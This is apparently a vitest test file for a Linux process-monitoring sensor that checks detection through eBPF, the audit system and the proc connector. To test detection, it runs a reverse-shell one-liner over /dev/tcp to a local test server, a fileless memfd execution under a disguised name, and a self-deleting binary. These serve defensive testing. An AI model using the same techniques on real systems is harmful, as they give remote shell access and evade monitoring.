import { execFile, execFileSync, spawn } from 'node:child_process';
import { randomBytes } from 'node:crypto';
import { once } from 'node:events';
import { existsSync, readFileSync } from 'node:fs';
import { createServer } from 'node:net';
import { fileURLToPath } from 'node:url';
import { promisify } from 'node:util';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import type { HostEvent, HostEventOf } from '../../../../contract/events.ts';
import { HealthRegistry } from '../../runtime/health.ts';
import { DEFAULT_HELPER_PATH, HELPER_EXIT } from '../helper.ts';
import type { ProcessMethod } from './records.ts';
import { ProcessSensor } from './sensor.ts';

const run = promisify(execFile);
const FOLDER = fileURLToPath(new URL('../../../../native-helpers/sense', import.meta.url));
const SWARM = `${FOLDER}/build/swarm`;
const AUDITING = `${FOLDER}/build/auditing`;
/** By eBPF and the audit system every one of these must be seen; of the others a share is measured. */
const SWARM_COUNT: Readonly<Record<ProcessMethod, number>> = { ebpf: 10_000, audit: 5_000, connector: 2_000 };
/** Two seconds on an idle machine; this one may be busy with other tests. */
const SWARM_TIMEOUT_MS = 100_000;
/** USER_HZ. */
const TICKS_PER_SECOND = 100;

/** Why a method cannot be tried here; undefined when it can. */
function whyNot(method: ProcessMethod): string | undefined {
  if (process.getuid?.() !== 0) return 'they need root';
  if (!existsSync(DEFAULT_HELPER_PATH)) return 'native-helpers/sense is not built';
  try {
    execFileSync('make', ['--silent', '-C', FOLDER, 'tools'], { stdio: 'ignore' });
  } catch {
    return 'build/swarm cannot be built';
  }
  if (method === 'audit') return whyNoAudit();
  try {
    execFileSync('timeout', ['0.5', DEFAULT_HELPER_PATH, 'processes', '--method', method], { stdio: 'pipe' });
    return undefined;
  } catch (error) {
    const { status, stderr } = error as { status?: number; stderr?: Buffer };
    return status === 124 ? undefined : String(stderr).trim() || `the helper ended with ${status}`;
  }
}

interface AuditState {
  readonly enabled: number;
  readonly daemon: number;
  readonly rules: number;
  readonly ours: number;
}

/** What build/auditing prints: enabled failure pid rate_limit backlog_limit lost rules ours. */
function auditState(): AuditState {
  const [enabled, , daemon, , , , rules, ours] = execFileSync(AUDITING, { encoding: 'utf8' })
    .trim()
    .split(' ')
    .map(Number);
  return { enabled, daemon, rules, ours };
}

/** Audit has no namespaces: it is tried only where nobody else uses it. */
function whyNoAudit(): string | undefined {
  try {
    const { enabled, daemon, rules } = auditState();
    if (daemon !== 0 || rules !== 0 || enabled > 1) return 'an audit daemon runs here, or rules are set or locked';
    return execFileSync(DEFAULT_HELPER_PATH, ['--help'], { encoding: 'utf8' }).includes('--audit-rule')
      ? undefined
      : 'native-helpers/sense is not built anew';
  } catch (error) {
    return `the audit system does not answer (${error})`;
  }
}

const obstacles: Readonly<Record<ProcessMethod, string | undefined>> = {
  ebpf: whyNot('ebpf'),
  audit: whyNot('audit'),
  connector: whyNot('connector'),
};
for (const [method, obstacle] of Object.entries(obstacles)) {
  if (obstacle !== undefined) console.log(`Process sensor tests with ${method} are skipped: ${obstacle}.`);
}

const sensors: ProcessSensor[] = [];
afterEach(async () => {
  await Promise.all(sensors.splice(0).map((sensor) => sensor.stop()));
});

async function watch(method: ProcessMethod) {
  const events: HostEvent[] = [];
  const health = new HealthRegistry();
  const sensor = new ProcessSensor({
    method,
    mayAddAuditRule: method === 'audit',
    health,
    onEvents: (news) => events.push(...news),
  });
  sensors.push(sensor);
  sensor.start();
  await expect.poll(() => sensor.method, { timeout: 45_000 }).toBe(method);
  const starts = () => events.filter((event) => event.type === 'process-start');
  const entry = () => health.report().entries.find(({ part }) => part === 'processes');
  return { sensor, events, starts, entry };
}

/** CPU time of a process, in seconds. */
function cpuSeconds(pid: number | undefined): number {
  const fields = readFileSync(`/proc/${pid}/stat`, 'utf8').split(') ')[1].split(' ');
  return (Number(fields[11]) + Number(fields[12])) / TICKS_PER_SECOND;
}

/** Numbers of the swarm's processes that were told with all their arguments. */
function numbersSeen(starts: readonly HostEventOf<'process-start'>[], word: string): Set<string> {
  const seen = new Set<string>();
  for (const { process } of starts) {
    const [, one, number, given] = process.arguments ?? [];
    if (one === 'one' && given === word) seen.add(number);
  }
  return seen;
}

/** What a swarm's processes carry: another run's on the same machine carry another one. */
function newMark(method: ProcessMethod): string {
  return `${method}-${process.pid}-${randomBytes(4).toString('hex')}`;
}

async function swarm(method: ProcessMethod) {
  const mark = newMark(method);
  const watched = await watch(method);
  const before = cpuSeconds(watched.sensor.helperPid);
  const { stdout } = await run(SWARM, [String(SWARM_COUNT[method]), mark], { timeout: SWARM_TIMEOUT_MS });
  const hasEnded = () =>
    watched.events.some(({ type, ...event }) => type === 'process-exit' && endOf(event, method, mark));
  await expect.poll(hasEnded, { timeout: 45_000 }).toBe(true);
  const seen = numbersSeen(watched.starts(), mark).size;
  const cpu = (cpuSeconds(watched.sensor.helperPid) - before).toFixed(2);
  console.log(`Process sensor, ${method}: ${seen} of ${stdout.trim()}, ${cpu} s of CPU in the helper.`);
  const one = () => watched.starts().find(({ process }) => process.arguments?.[3] === mark)?.process;
  return { ...watched, seen, one };
}

/** The swarm itself ends last. */
function endOf(event: Partial<HostEventOf<'process-exit'>>, method: ProcessMethod, mark: string): boolean {
  const list = event.process?.arguments ?? [];
  return list[1] === String(SWARM_COUNT[method]) && list[2] === mark;
}

describe.skipIf(obstacles.ebpf !== undefined)('processes by eBPF', () => {
  it(
    'sees every one of ten thousand processes that live a millisecond, with its arguments',
    async () => {
      const { seen, one, entry } = await swarm('ebpf');
      expect(seen).toBe(SWARM_COUNT.ebpf);
      expect(entry()).toMatchObject({ state: 'ok', counters: { dropped: 0 } });
      const first = one();
      expect(first).toMatchObject({
        image: SWARM,
        name: 'exe',
        currentDirectory: process.cwd(),
        user: 'root',
        uid: 0,
        parent: { image: SWARM },
      });
      const above = [first?.parent, ...(first?.ancestors ?? [])].map((ancestor) => ancestor?.pid);
      expect(above).toContain(process.pid);
    },
    2 * SWARM_TIMEOUT_MS,
  );

  it('tells exits, changes of users, streams, deleted programs and the end of the lineage', async () => {
    const { events, starts } = await watch('ebpf');
    const script = 'cp /bin/sleep "$0" && "$0" 0.3 </dev/null | cat & sleep 0.1; rm "$0"; wait; kill -9 $$';
    await run('/bin/sh', ['-c', script, `/tmp/holdfast-deleted-${process.pid}`]).catch(() => undefined);
    const shell = () => starts().find(({ process }) => process.arguments?.[2] === script)?.process.pid;
    const end = () => events.find((event) => event.type === 'process-exit' && event.process.pid === shell());
    await expect.poll(end, { timeout: 45_000 }).toMatchObject({ signal: 9 });
    const sleep = starts().find(({ process }) => process.image.startsWith('/tmp/holdfast-deleted-'))?.process;
    expect(sleep).toMatchObject({ standardStreams: { input: 'null', output: 'pipe' }, user: 'root' });

    await run('setpriv', ['--reuid', '65534', '--clear-groups', '/bin/true']);
    const change = () => events.find((event) => event.type === 'process-credentials' && event.after.uid === 65_534);
    await expect
      .poll(change, { timeout: 45_000 })
      .toMatchObject({ before: { uid: 0, euid: 0 }, after: { euid: 65_534 } });
  });

  it.skipIf(!existsSync('/bin/bash'))(
    'tells with whom a shell is connected that somebody else commands',
    async () => {
      const { starts } = await watch('ebpf');
      const server = createServer((socket) => socket.end('exit\n')).listen(0, '127.0.0.1');
      await once(server, 'listening');
      const address = server.address();
      const port = typeof address === 'object' && address !== null ? address.port : 0;
      const script = `exec sh >/dev/tcp/127.0.0.1/${port} 2>&1 <&1`;
      await run('/bin/bash', ['-c', script]).catch(() => undefined);
      server.close();
      const shell = () => starts().find(({ process }) => process.standardStreams?.remote?.port === port)?.process;
      await expect.poll(shell, { timeout: 45_000 }).toMatchObject({
        arguments: ['sh'],
        standardStreams: { input: 'socket', output: 'socket', remote: { address: '127.0.0.1', port } },
      });
    },
    90_000,
  );

  it.skipIf(!existsSync('/usr/bin/python3'))(
    'tells of a program that never was a file',
    async () => {
      const { starts } = await watch('ebpf');
      const code =
        'import os; f = os.memfd_create("holdfast-test", 0); os.write(f, open("/bin/true", "rb").read()); ' +
        'os.execv(f"/proc/self/fd/{f}", ["innocent"])';
      await run('/usr/bin/python3', ['-c', code]);
      const hidden = () => starts().find(({ process }) => process.image === 'memfd:holdfast-test')?.process;
      await expect.poll(hidden, { timeout: 45_000 }).toMatchObject({ commandLine: 'innocent', isImageDeleted: true });
    },
    90_000,
  );

  it('has given up all rights, and ends with its reader', async () => {
    const { sensor } = await watch('ebpf');
    const status = readFileSync(`/proc/${sensor.helperPid}/status`, 'utf8');
    expect(status).toMatch(/^CapPrm:\t0+$/m);
    expect(status).toMatch(/^Uid:\t65534\t65534/m);
    expect(status).toMatch(/^Seccomp:\t2$/m);
    const child = spawn(DEFAULT_HELPER_PATH, ['processes'], { stdio: ['ignore', 'pipe', 'ignore'] });
    const ended = new Promise((resolve) => child.once('exit', (code) => resolve(code)));
    await new Promise((resolve) => child.stdout.once('data', resolve));
    child.stdout.destroy();
    expect(await ended).toBe(HELPER_EXIT.output);
  });
});

/** Switches auditing on for the whole machine, for as long as the test takes, and then back to what it was. */
describe.skipIf(obstacles.audit !== undefined)('processes by the audit system', () => {
  let before: AuditState;
  beforeAll(() => {
    before = auditState();
    if (before.enabled === 0) execFileSync(AUDITING, ['on']);
  });
  afterAll(async () => {
    if (before.enabled === 0) execFileSync(AUDITING, ['off']);
    expect(auditState()).toEqual(before);
  });

  it(
    'sees every one of some thousand processes that live a millisecond, and leaves no rule behind',
    async () => {
      const { seen, sensor, one, starts, entry } = await swarm('audit');
      expect(seen).toBe(SWARM_COUNT.audit);
      expect(auditState().ours).toBe(1);
      expect(entry()).toMatchObject({ state: 'ok', detail: expect.stringContaining('a rule was added') });
      expect(one()).toMatchObject({ image: SWARM, currentDirectory: process.cwd(), user: 'root', uid: 0 });
      expect(one()?.parent).toMatchObject({ image: SWARM });
      await run('/bin/sh', ['-c', 'sleep 0.5', 'it is "quoted"']);
      const quoted = () => starts().find(({ process }) => process.arguments?.[3] === 'it is "quoted"')?.process;
      await expect.poll(quoted, { timeout: 5_000 }).toMatchObject({ parent: { pid: process.pid } });
      const status = readFileSync(`/proc/${sensor.helperPid}/status`, 'utf8');
      expect(status).toMatch(/^Uid:\t65534\t65534/m);
      expect(status).toMatch(/^Seccomp:\t2$/m);
      await sensor.stop();
      await expect.poll(() => auditState().ours, { timeout: 10_000 }).toBe(0);
    },
    2 * SWARM_TIMEOUT_MS,
  );
});

describe.skipIf(obstacles.connector !== undefined)('processes by the proc connector', () => {
  it(
    'tells of every process, and honestly of those whose arguments it missed',
    async () => {
      const { seen, sensor, entry, starts } = await swarm('connector');
      // How many of the swarm are read in time depends on the machine's load. What is missing is counted.
      // The counts come once a second, and hold what else the machine started.
      const accounted = () => seen + sensor.counts.incomplete + sensor.counts.dropped;
      await expect.poll(accounted, { timeout: 45_000 }).toBeGreaterThanOrEqual(SWARM_COUNT.connector);
      expect(sensor.counts.execs).toBeGreaterThanOrEqual(sensor.counts.incomplete);
      await run('/bin/sh', ['-c', 'sleep 0.5', 'long-lived']);
      const longLived = () => starts().find(({ process }) => process.arguments?.[3] === 'long-lived')?.process;
      await expect.poll(longLived, { timeout: 45_000 }).toMatchObject({
        commandLine: '/bin/sh -c sleep 0.5 long-lived',
        currentDirectory: process.cwd(),
        user: 'root',
        parent: { pid: process.pid },
      });
      expect(entry()).toMatchObject({ state: 'degraded', detail: expect.stringContaining('proc connector') });
    },
    2 * SWARM_TIMEOUT_MS,
  );
});
